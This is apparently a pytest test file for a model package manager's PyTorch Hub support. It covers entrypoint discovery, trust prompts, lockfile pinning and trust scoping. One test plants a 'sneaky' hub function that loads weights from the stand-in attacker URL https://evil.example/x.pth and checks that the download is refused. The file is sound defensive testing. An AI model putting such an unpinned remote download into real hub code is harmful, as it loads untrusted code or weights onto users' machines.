"""PyTorch Hub packages: hub code + weights served from mlpm's store, behind trust."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import assert_clean_error, needs, run_mlpm
from tests.models import make_hub_package


@pytest.fixture
def hub_app(registry, project, tmp_path):
    weights, hub = make_hub_package(tmp_path / "pkg")
    result = run_mlpm("publish", str(tmp_path / "pkg"), "--registry", str(registry.root),
                      cwd=tmp_path)
    assert result.code == 0, result.err
    assert run_mlpm("init", "--registry", registry.url, cwd=project).code == 0
    assert run_mlpm("install", "tinyhub", cwd=project).code == 0
    return project, weights, hub


def hub_truth(hub: Path) -> list[str]:
    """What torch.hub.list would show: public callables of the imported hubconf."""
    code = ("import importlib.util, sys; sys.path.insert(0, sys.argv[1]);"
            "spec = importlib.util.spec_from_file_location('hubconf', sys.argv[1] + '/hubconf.py');"
            "m = importlib.util.module_from_spec(spec); spec.loader.exec_module(m);"
            "print(sorted(f for f in dir(m) if callable(getattr(m, f)) and not f.startswith('_')))")
    out = subprocess.run([sys.executable, "-c", code, str(hub)], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    return eval(out.stdout)  # noqa: S307 (a list literal printed by the subprocess above)


def test_entrypoints_are_discovered_without_running_code(hub_app, tmp_path):
    project, _, hub = hub_app
    info = run_mlpm("info", "tinyhub", "--json", cwd=project).json
    names = sorted(e["name"] for e in info["entrypoints"])
    assert names == hub_truth(hub) == ["TinyNet", "tiny_cnn", "tiny_net", "tiny_net_raw"]
    by_name = {e["name"]: e for e in info["entrypoints"]}
    assert [(p["name"], p["default"]) for p in by_name["tiny_net"]["parameters"]] == \
        [("pretrained", "True"), ("hidden", "8")]
    assert by_name["tiny_net"]["doc"].startswith("A two-layer MLP")
    assert by_name["tiny_cnn"]["doc"] == "Re-exported as tiny_cnn."
    assert info["interface"]["hub_dependencies"] == ["torch"]
    text = run_mlpm("info", "tinyhub", cwd=project).out
    assert "tiny_net(pretrained=True, hidden=8)  (default)" in text
    # The Python API answers from mlpm.lock, without the registry.
    code = "import mlpm; print(sorted(e['name'] for e in mlpm.entrypoints('tinyhub')))"
    out = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True,
                         text=True)
    assert eval(out.stdout) == names  # noqa: S307


def test_untrusted_hub_code_is_refused_when_not_interactive(hub_app, registry):
    project, _, _ = hub_app
    code = ("import mlpm\ntry:\n    mlpm.load('tinyhub')\n"
            "except mlpm.MlpmError as e:\n    print(type(e).__name__, '|', e)\n")
    out = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True,
                         text=True, stdin=subprocess.DEVNULL)
    assert out.stdout.startswith("UntrustedCode |"), out.stdout + out.stderr
    assert f"mlpm trust {registry.url}#example/tinyhub" in out.stdout


def test_trusted_hub_package_loads_weights_only_from_the_store(hub_app, registry, isolated,
                                                               monkeypatch):
    torch = needs("torch")

    project, weights, _ = hub_app
    assert run_mlpm("trust", f"{registry.url}#example/tinyhub", cwd=project).code == 0
    registry.requests.clear()
    home_before = sorted(p.relative_to(isolated) for p in (isolated / "home").rglob("*"))
    monkeypatch.chdir(project)
    import mlpm

    model = mlpm.load("tinyhub")
    x = torch.ones(2, 4)
    state = torch.load(weights, weights_only=True)
    expected = torch.relu(x @ state["a.weight"].T + state["a.bias"]) @ state["b.weight"].T \
        + state["b.bias"]
    torch.testing.assert_close(model(x), expected)
    assert registry.requests == []  # everything came from the store
    assert sorted(p.relative_to(isolated) for p in (isolated / "home").rglob("*")) == home_before
    assert not (isolated / "home" / "torch").exists()
    # Another entrypoint, with arguments passed on.
    conv = mlpm.load("tinyhub", entrypoint="tiny_cnn", channels=5)
    assert conv.out_channels == 5


def test_the_lock_pins_hub_code_and_weights(hub_app):
    project, weights, _ = hub_app
    import tomllib

    pkg = tomllib.loads((project / "mlpm.lock").read_text())["package"][0]
    roles = {a["role"]: a for a in pkg["artifacts"]}
    assert set(roles) == {"code", "weights"}
    assert roles["weights"]["sha256"] == hashlib.sha256(weights.read_bytes()).hexdigest()
    assert roles["weights"]["upstream"].endswith(weights.name)
    assert pkg["kind"] == "torch-hub" and pkg["upstream"]["repo"] == "example/tinyhub"


def test_hub_code_asking_for_an_unpinned_url_is_refused(registry, project, tmp_path):
    extra = ('\n\ndef sneaky():\n    """Downloads something the lock does not know."""\n'
             '    return torch.hub.load_state_dict_from_url("https://evil.example/x.pth")\n')
    make_hub_package(tmp_path / "pkg", extra_hubconf=extra)
    assert run_mlpm("publish", str(tmp_path / "pkg"), "--registry", str(registry.root),
                    cwd=tmp_path).code == 0
    assert run_mlpm("init", "--registry", registry.url, cwd=project).code == 0
    assert run_mlpm("install", "tinyhub", cwd=project).code == 0
    code = ("import mlpm\ntry:\n    mlpm.load('tinyhub', entrypoint='sneaky', trust=True)\n"
            "except mlpm.MlpmError as e:\n    print(type(e).__name__, '|', e)\n")
    out = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True,
                         text=True)
    assert "https://evil.example/x.pth" in out.stdout and "does not pin" in out.stdout


def test_removing_an_entrypoint_needs_a_major_version(registry, tmp_path):
    make_hub_package(tmp_path / "v1")
    assert run_mlpm("publish", str(tmp_path / "v1"), "--registry", str(registry.root),
                    cwd=tmp_path).code == 0
    make_hub_package(tmp_path / "v2", version="1.1.0")
    hubconf = tmp_path / "v2" / "hub" / "hubconf.py"
    hubconf.write_text(hubconf.read_text().replace("def tiny_net_raw(", "def _tiny_net_raw("))
    result = run_mlpm("publish", str(tmp_path / "v2"), "--registry", str(registry.root),
                      cwd=tmp_path)
    assert_clean_error(result, 1, "tiny_net_raw", "2.0.0")
    text = (tmp_path / "v2" / "mlpm.toml").read_text().replace('"1.1.0"', '"2.0.0"')
    (tmp_path / "v2" / "mlpm.toml").write_text(text)
    assert run_mlpm("publish", str(tmp_path / "v2"), "--registry", str(registry.root),
                    cwd=tmp_path).code == 0
    records = [json.loads(line) for line in
               (registry.root / "index" / "ti" / "ny" / "tinyhub").read_text().splitlines()]
    assert [r["version"] for r in records] == ["1.0.0", "2.0.0"]


def test_a_terminal_user_is_asked_and_the_answer_is_remembered(hub_app):
    import os
    import pty
    import time

    project, _, _ = hub_app
    code = "import mlpm; m = mlpm.load('tinyhub'); print('LOADED', type(m).__name__)"
    leader, follower = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-c", code], cwd=project, stdin=follower,
                            stdout=subprocess.PIPE, stderr=follower, text=True)
    os.close(follower)
    seen = b""
    deadline = time.time() + 60
    while b"Trust this source?" not in seen and time.time() < deadline:
        seen += os.read(leader, 1024)
    assert b"runs Python code from http://127.0.0.1" in seen and b"example/tinyhub" in seen
    os.write(leader, b"y\n")
    out, _ = proc.communicate(timeout=60)
    os.close(leader)
    assert proc.returncode == 0 and "LOADED TinyNet" in out
    # Remembered: a non-interactive run now loads without asking.
    again = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True,
                           text=True, stdin=subprocess.DEVNULL)
    assert "LOADED TinyNet" in again.stdout, again.stderr


def test_install_trust_flag_trusts_the_hub_source(registry, project, tmp_path):
    make_hub_package(tmp_path / "pkg")
    assert run_mlpm("publish", str(tmp_path / "pkg"), "--registry", str(registry.root),
                    cwd=tmp_path).code == 0
    assert run_mlpm("init", "--registry", registry.url, cwd=project).code == 0
    result = run_mlpm("install", "tinyhub", "--trust", cwd=project)
    assert result.code == 0 and f"trusted {registry.url}#example/tinyhub" in result.err
    code = "import mlpm; print(type(mlpm.load('tinyhub')).__name__)"
    out = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True,
                         text=True, stdin=subprocess.DEVNULL)
    assert out.stdout.strip() == "TinyNet", out.stderr


def test_a_registry_cannot_borrow_the_trust_of_a_github_repo(hub_app, registry):
    """Trusting pytorch/vision must not let any registry run its own code under that name."""
    project, _, _ = hub_app
    assert run_mlpm("trust", "example/tinyhub", cwd=project).code == 0  # the GitHub repo
    code = ("import mlpm\ntry:\n    mlpm.load('tinyhub')\n"
            "except mlpm.MlpmError as e:\n    print(type(e).__name__)\n")
    out = subprocess.run([sys.executable, "-c", code], cwd=project, capture_output=True,
                         text=True, stdin=subprocess.DEVNULL)
    assert out.stdout.strip() == "UntrustedCode"
